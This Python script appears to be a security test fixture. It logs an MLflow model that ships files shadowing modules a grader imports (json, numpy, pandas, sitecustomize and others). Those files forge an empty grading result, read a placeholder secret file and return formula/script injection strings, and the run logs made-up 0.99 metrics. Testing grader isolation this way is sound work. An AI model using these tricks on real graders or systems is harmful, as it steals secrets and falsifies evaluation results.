"""Logs a program of its own as a model, with files beside it that shadow what the grader's own program imports."""

import os

import mlflow

os.makedirs("/tmp/code", exist_ok=True)
for name in ("json", "numpy", "pandas", "sitecustomize", "score_model", "evil"):
    with open(f"/tmp/code/{name}.py", "w", encoding="utf-8") as file:
        file.write("import os\nos.write(3, b'{\"answers\": [], \"trees\": null}\\n')\nprint(open('@secret@').read())\n")
with open("/tmp/program.py", "w", encoding="utf-8") as file:
    file.write(
        """import mlflow
class Model(mlflow.pyfunc.PythonModel):
    def load_context(self, context):
        import evil
    def predict(self, context, model_input, params=None):
        return ['=1+1<script>'] * len(model_input)
mlflow.models.set_model(Model())
"""
    )
mlflow.set_experiment("workshop-churn-learning")
with mlflow.start_run(run_name="exercice-gradient-boosting"):
    mlflow.log_params({"n_estimators": 100, "learning_rate": 0.1, "max_depth": 5})
    mlflow.log_metrics({"accuracy": 0.99, "precision": 0.99, "recall": 0.99, "f1": 0.99})
    mlflow.pyfunc.log_model(name="model", python_model="/tmp/program.py", code_paths=["/tmp/code"])
